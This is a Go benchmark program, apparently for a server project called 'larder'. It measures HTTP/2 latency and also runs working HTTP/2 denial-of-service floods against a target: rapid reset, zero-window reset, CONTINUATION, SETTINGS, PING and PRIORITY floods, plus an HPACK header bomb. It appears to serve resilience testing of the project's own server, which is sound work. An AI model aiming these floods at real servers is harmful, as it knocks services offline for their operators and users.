//go:build linux

package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/larderhq/larder/bench/rig"
)

// work carries out a task.
func work(ctx context.Context, text string) error {
	var t task
	if err := json.Unmarshal([]byte(text), &t); err != nil {
		return err
	}
	pool, err := trust(t.Cert)
	if err != nil {
		return err
	}
	config := &tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12, NextProtos: []string{"h2"}}
	if t.Flood == "" {
		return t.ask(ctx, config)
	}
	config.ServerName = "127.0.0.1"
	var all sync.WaitGroup
	for range t.Conns {
		all.Go(func() {
			for rig.Pause(ctx, 100*time.Millisecond) == nil {
				_ = t.attack(ctx, config) // it ends when it is cut off
			}
		})
	}
	all.Wait()
	return nil
}

func trust(file string) (*x509.CertPool, error) {
	text, err := os.ReadFile(file)
	if err != nil {
		return nil, err
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(text) {
		return nil, fmt.Errorf("%s: no certificate", file)
	}
	return pool, nil
}

// ask asks for hits, and prints what came of it.
func (t *task) ask(ctx context.Context, config *tls.Config) error {
	const clients = 8
	due := make(chan time.Time, 1000)
	var all sync.WaitGroup
	var mu sync.Mutex
	var times []time.Duration
	var r result
	var wrong error
	for range clients {
		second := new(http.Protocols)
		second.SetHTTP2(true)
		c := &http.Client{Transport: &http.Transport{TLSClientConfig: config.Clone(), Protocols: second}}
		if err := hit(ctx, c, t.At); err != nil { // it has a connection then
			return err
		}
		all.Go(func() {
			defer c.CloseIdleConnections()
			for at := range due {
				err := hit(ctx, c, t.At)
				took := time.Since(at)
				mu.Lock()
				if times = append(times, took); err != nil {
					r.Failed++
					wrong = err
				}
				mu.Unlock()
			}
		})
	}
	begun := time.Now()
	for n := 0; ; n++ {
		at := begun.Add(time.Duration(n) * time.Second / time.Duration(t.Rate))
		if at.Sub(begun) > t.Time {
			break
		}
		if err := rig.Pause(ctx, time.Until(at)); err != nil {
			return err
		}
		select {
		case due <- at:
		default:
			r.Late++
		}
	}
	close(due)
	all.Wait()
	r.P50, r.P99 = rig.Quantile(times, 0.5), rig.Quantile(times, 0.99)
	text, err := json.Marshal(r)
	if err != nil {
		return err
	}
	fmt.Fprintln(os.Stderr, string(text))
	if wrong != nil {
		return wrong
	}
	return nil
}

func hit(ctx context.Context, c *http.Client, at string) error {
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+at+"/hit", http.NoBody)
	if err != nil {
		return err
	}
	a, err := c.Do(r)
	if err != nil {
		return err
	}
	defer a.Body.Close()
	if n, err := io.Copy(io.Discard, a.Body); err != nil || n != 1<<10 || a.StatusCode != http.StatusOK {
		return errors.Join(fmt.Errorf("%s, %d octets", a.Status, n), err)
	}
	return nil
}

// An attacker is a connection that floods.
type attacker struct {
	*http2.Framer
	out *bufio.Writer
	at  string
}

// floods write again and again, each time with another number from 0 on.
var floods = map[string]func(a *attacker, n int) error{
	"reset": func(a *attacker, n int) error {
		id := uint32(2*n + 1)
		return errors.Join(a.request(id, true), a.WriteRSTStream(id, http2.ErrCodeCancel))
	},
	"made-you-reset": func(a *attacker, n int) error {
		id := uint32(2*n + 1)
		return errors.Join(a.request(id, true), a.WriteWindowUpdate(id, 0))
	},
	"continuation": func(a *attacker, n int) error {
		if n == 0 {
			return a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.block()})
		}
		return a.WriteContinuation(1, false, nil)
	},
	"settings": func(a *attacker, _ int) error { return a.WriteSettings() },
	"ping":     func(a *attacker, _ int) error { return a.WritePing(false, [8]byte{}) },
	"priority": func(a *attacker, n int) error {
		return a.WritePriority(uint32(2*n+3), http2.PriorityParam{StreamDep: 1})
	},
	"empty-data": func(a *attacker, n int) error {
		if n == 0 {
			return a.request(1, false)
		}
		return a.WriteData(1, false, nil)
	},
	"window-update": func(a *attacker, _ int) error { return a.WriteWindowUpdate(0, 1) },
	"bomb": func(a *attacker, n int) error {
		block := append(a.block(), 0x40, 1, 'x', 0x7f, 0xa1, 0x1e) // a value of 4,000 octets
		block = append(block, bytes.Repeat([]byte{'y'}, 4000)...)
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, 12_000)...)
		return a.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*n + 1), BlockFragment: block, EndStream: true, EndHeaders: true})
	},
}

// attack connects and floods until it is cut off, 100,000 times at most.
func (t *task) attack(ctx context.Context, config *tls.Config) error {
	c, err := (&tls.Dialer{Config: config}).DialContext(ctx, "tcp", t.At)
	if err != nil {
		return err
	}
	defer c.Close()
	a := &attacker{out: bufio.NewWriter(c), at: t.At}
	a.Framer = http2.NewFramer(a.out, nil)
	a.AllowIllegalWrites = true
	go func() { _, _ = io.Copy(io.Discard, c) }() // it ends with the connection
	if _, err := io.Copy(a.out, strings.NewReader(http2.ClientPreface)); err != nil {
		return err
	}
	if err := errors.Join(a.WriteSettings(), a.WriteSettingsAck()); err != nil {
		return err
	}
	for n := range 100_000 {
		if err := floods[t.Flood](a, n); err != nil {
			return err
		}
	}
	return a.out.Flush()
}

// request asks for what the origin takes its time for.
func (a *attacker) request(id uint32, end bool) error {
	return a.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.block(), EndStream: end, EndHeaders: true})
}

// block is a head that needs nothing of what was sent before it.
func (a *attacker) block() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: a.at}, {Name: ":path", Value: "/slow"}} {
		f.Sensitive = true // so it is in no table
		_ = e.WriteField(f)
	}
	return b.Bytes()
}
